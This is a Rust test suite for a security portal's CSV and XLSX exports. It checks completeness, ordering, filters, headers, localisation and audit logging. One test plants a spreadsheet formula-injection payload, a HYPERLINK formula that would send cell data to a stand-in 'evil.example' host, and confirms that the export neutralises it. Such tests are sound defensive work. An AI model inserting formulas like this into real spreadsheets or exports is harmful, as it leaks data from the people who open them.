//! CSV and XLSX exports: all rows of all pages, with formulas escaped.

mod about;
mod completeness;

use std::io::{Cursor, Read as _};

use axum::http::Method;

use secmon_portal::simulator::Fault;

use crate::{
    control::release,
    support::{ACME, Portal, TestClient},
};

/// The lines of a CSV file, the head first.
fn lines(file: &[u8]) -> Vec<Vec<String>> {
    let text = file
        .strip_prefix(b"\xef\xbb\xbf")
        .expect("Excel needs the mark");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text);
    let records = reader.records().map(|record| record.expect("is CSV"));
    records
        .map(|record| record.iter().map(str::to_owned).collect())
        .collect()
}

pub async fn csv_of(client: &mut TestClient, address: &str) -> Vec<Vec<String>> {
    let file = client.download(address).await.expect("comes as a whole");
    lines(&file)
}

/// The cells of one column, without the head.
pub fn column(lines: &[Vec<String>], title: &str) -> Vec<String> {
    let place = lines[0].iter().position(|line| line == title);
    let place = place.unwrap_or_else(|| panic!("{title} in {:?}", lines[0]));
    // A long id has a tab behind it.
    let cells = lines[1..].iter().map(|line| line[place].trim_end());
    cells.map(str::to_owned).collect()
}

/// All parts of an XLSX file as XML.
fn parts(file: Vec<u8>) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(file)).expect("is a file of Excel's");
    let mut all = String::new();
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).expect("is there");
        if part.name().expect("a name").starts_with("xl/") {
            part.read_to_string(&mut all).expect("is text");
        }
    }
    all
}

#[tokio::test]
async fn ticket_and_history_exports_hold_every_row_in_order() {
    let portal = Portal::start().await;
    let mut viewer = portal.sign_in("viewer").await;
    let tickets = csv_of(&mut viewer, "/t/acme/tickets.csv").await;
    assert_eq!(
        column(&tickets, "Number"),
        portal.simulator.ticket_ids(ACME)
    );
    let page = viewer.get("/t/acme/tickets").await;
    assert_eq!(column(&tickets, "Name")[..10], page.texts("tbody th.long"));
    assert_eq!(
        column(&tickets, "Detected")[0],
        page.text_of("tbody tr:first-child .when")
    );
    let history = csv_of(&mut viewer, "/t/acme/history.csv").await;
    assert_eq!(history.len(), 1 + 25);
    assert_eq!(column(&history, "Asked by")[0], "outside the portal");
    // A translated term, next to the API's term.
    let billing = column(&history, "Billing").into_iter();
    let mut told = billing.zip(column(&history, "Billing (as the API wrote it)"));
    assert!(told.all(|(told, written)| (told == "Billed") == (written == "YES")));
}

#[tokio::test]
async fn event_export_covers_the_range_of_the_page() {
    let portal = Portal::start().await;
    let mut viewer = portal.sign_in("viewer").await;
    let range = "start=2025-06-08T00:00&end=2025-06-10T12:00";
    let page = viewer.get(&format!("/t/acme/events?{range}")).await;
    let there = page.attributes(".files a", "href");
    assert_eq!(
        there[0],
        "/t/acme/events.csv?start=2025-06-08T00:00&end=2025-06-10T12:00"
    );
    let total: usize = page
        .text_of(".pager:first-of-type .pager-total")
        .split(' ')
        .nth(2)
        .and_then(|part| part.parse().ok())
        .expect("a total");
    assert!(total > 10, "several pages");
    let events = csv_of(&mut viewer, &there[0]).await;
    assert_eq!(events.len() - 1, total);
    let late = column(&events, "Detected").into_iter();
    assert!(
        late.into_iter()
            .all(|late| late.as_str() < "2025-06-10 12:01"
                && late.as_str() >= "2025-06-08 00:00"
                && late.ends_with(" KST"))
    );
    let unreadable = viewer.get("/t/acme/events.csv?start=yesterday").await;
    assert_eq!(unreadable.status, 422);
}

#[tokio::test]
async fn server_export_follows_filter_and_order() {
    let portal = Portal::start().await;
    let mut viewer = portal.sign_in("viewer").await;
    let page = viewer.get("/t/acme/vms?q=db&sort=-name").await;
    let file = page.attributes(".files a", "href").remove(0);
    assert_eq!(file, "/t/acme/vms.csv?q=db&sort=-name");
    let servers = csv_of(&mut viewer, &file).await;
    assert!(servers.len() > 2);
    assert_eq!(column(&servers, "ID"), page.ids("table.servers"));
    let all = csv_of(&mut viewer, "/t/acme/vms.csv").await;
    let page = viewer.get("/t/acme/vms").await;
    assert_eq!(column(&all, "ID"), page.ids("table.servers"));
}

#[tokio::test]
async fn no_cell_runs_in_a_spreadsheet() {
    let portal = Portal::start().await;
    let mut viewer = portal.sign_in("viewer").await;
    let vm = portal.vms(false, 1).remove(0);
    let evil = "=HYPERLINK(\"http://evil.example?\"&A1,\"가\")";
    assert!(portal.simulator.rename_server(ACME, &vm, evil));
    let servers = csv_of(&mut viewer, "/t/acme/vms.csv").await;
    assert!(column(&servers, "Name").contains(&format!("'{evil}")));
    let every = servers.iter().flatten();
    let runs = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    assert_eq!(every.filter(runs).count(), 0);
    // In XLSX the cell has the type text.
    let file = viewer.download("/t/acme/vms.xlsx").await.expect("comes");
    let xml = parts(file);
    assert!(
        xml.contains("=HYPERLINK(&quot;http://evil.example?&quot;&amp;A1,&quot;가&quot;)")
            || xml.contains("=HYPERLINK(\"http://evil.example?\"&amp;A1,\"가\")")
    );
    assert!(!xml.contains("<f>"), "a formula");
}

#[tokio::test]
async fn export_has_its_media_type_and_the_user_language() {
    let portal = Portal::start().await;
    let mut viewer = portal
        .sign_in("viewer")
        .await
        .with_header("accept-language", "ko");
    let csv = viewer.get("/t/acme/tickets.csv").await;
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        csv.header("content-disposition"),
        Some("attachment; filename=\"secmon-acme-tickets-20250611-1200.csv\"")
    );
    assert_eq!(csv.header("cache-control"), Some("no-store"));
    assert!(
        csv.text.starts_with("\u{feff}탐지 시각,"),
        "{}",
        &csv.text[..80]
    );
    let xlsx = viewer.get("/t/acme/tickets.xlsx").await;
    assert_eq!(
        xlsx.header("content-type"),
        Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    );
    let xml = parts(xlsx.body.clone());
    for id in portal.simulator.ticket_ids(ACME) {
        assert!(xml.contains(&id), "{id} as it is, not rounded");
    }
}

#[tokio::test]
async fn failed_export_is_an_error_page_without_an_audit_event() {
    let portal = Portal::start().await;
    let mut manager = portal.sign_in("manager").await;
    portal.simulator.set_fault(Some(ACME), Fault::Refused);
    for list in ["vms", "history", "tickets", "events"] {
        let page = manager.get(&format!("/t/acme/{list}.csv")).await;
        assert_eq!(page.status, 502, "{list}");
        assert!(!page.alert().is_empty());
    }
    let log = manager.get("/t/acme/audit?action=exported").await;
    assert_eq!(log.count("tbody tr"), 0);
}

#[tokio::test]
async fn long_id_is_text_for_excel_and_whole_for_a_script() {
    let portal = Portal::start().await;
    let mut viewer = portal.sign_in("viewer").await;
    let csv = viewer.get("/t/acme/tickets.csv").await.text;
    for id in portal.simulator.ticket_ids(ACME) {
        assert!(csv.contains(&format!(",{id}\t\r\n")), "{id}");
    }
}

#[tokio::test]
async fn head_of_an_export_reads_and_records_nothing() {
    let portal = Portal::start().await;
    let mut manager = portal.sign_in("manager").await;
    portal.calls();
    for list in ["vms", "history", "tickets", "events", "audit"] {
        for format in ["csv", "xlsx"] {
            let address = format!("/t/acme/{list}.{format}");
            let answer = manager.send(Method::HEAD, &address, None).await;
            assert_eq!(answer.status, 200, "{address}");
            assert_eq!(answer.header("content-length"), None);
            let name = answer.header("content-disposition").expect("is a file");
            assert!(name.ends_with(&format!(".{format}\"")), "{name}");
        }
    }
    assert_eq!(portal.calls(), []);
    let log = manager.get("/t/acme/audit?action=exported").await;
    assert_eq!(log.count("tbody tr"), 0);
}

#[tokio::test]
async fn audit_log_records_the_rows_of_an_export() {
    let portal = Portal::start().await;
    let mut manager = portal.sign_in("manager").await;
    let history = csv_of(&mut manager, "/t/acme/history.csv").await;
    let rows = history.len() - 1;
    let log = manager.get("/t/acme/audit?action=export-ended").await;
    let told = log.texts("tbody td.long");
    assert_eq!(told, [format!("/t/acme/history.csv (rows: {rows})")]);
    assert!(log.text_of("tbody .state").contains("Done"));
    let longest = format!("/t/acme/history.csv?x={}", "y".repeat(10_000));
    csv_of(&mut manager, &longest).await;
    let log = csv_of(&mut manager, "/t/acme/audit.csv").await;
    assert!(
        column(&log, "Target")
            .iter()
            .all(|column| column.len() < 330)
    );
}

#[tokio::test]
async fn audit_export_has_a_line_per_item_and_audits_itself() {
    let portal = Portal::start().await;
    let mut operator = portal.sign_in("operator").await;
    let vms = portal.vms(true, 2);
    release(&mut operator, &vms).await;
    let mut manager = portal.sign_in("manager").await;
    let page = manager.get("/t/acme/audit?action=control-release").await;
    let file = page.attributes(".files a", "href").remove(0);
    let log = csv_of(&mut manager, &file).await;
    let names = column(&log, "Item");
    assert_eq!(names.len(), 2);
    for (vm, told) in vms.iter().zip(&names) {
        assert!(told.starts_with(&portal.name(vm)), "{told}");
    }
    assert_eq!(column(&log, "Asked"), ["Release from monitoring"; 2]);
    assert!(column(&log, "Next step")[0].starts_with("No action needed."));
    // The same as the page's table.
    let told = page.texts(".outcome tbody td.happened");
    assert!(column(&log, "Result")[0].starts_with(&told[0]), "{told:?}");
    // Outcome and details of each item.
    portal.clock.advance(chrono::TimeDelta::hours(2));
    portal.run_due(portal.poller()).await;
    let ended = csv_of(&mut manager, "/t/acme/audit.csv?action=control-settled").await;
    assert_eq!(column(&ended, "Result"), ["released: 2"]);
    let both = vms.iter().map(|vm| portal.name(vm)).collect::<Vec<_>>();
    assert_eq!(column(&ended, "Target"), [both.join(", ")]);
    let taken = manager.get("/t/acme/audit?action=exported").await;
    let taken = taken.texts("tbody td.long");
    assert!(
        taken.contains(&"/t/acme/audit.csv?action=control-release".to_owned()),
        "{taken:?}"
    );
    // All of it: more than a page.
    let mut site_admin = portal.sign_in("site-admin").await;
    for _ in 0..60 {
        portal.sign_in("viewer").await;
    }
    let page = site_admin.get("/admin/audit").await;
    let total: usize = page
        .text_of(".pager:first-of-type .pager-total")
        .split(' ')
        .nth(2)
        .and_then(|part| part.parse().ok())
        .expect("a total");
    let all = csv_of(&mut site_admin, "/admin/audit.csv").await;
    // One row became two lines, and the export added a row.
    assert_eq!(all.len() - 1, total + 2, "{total}");
}
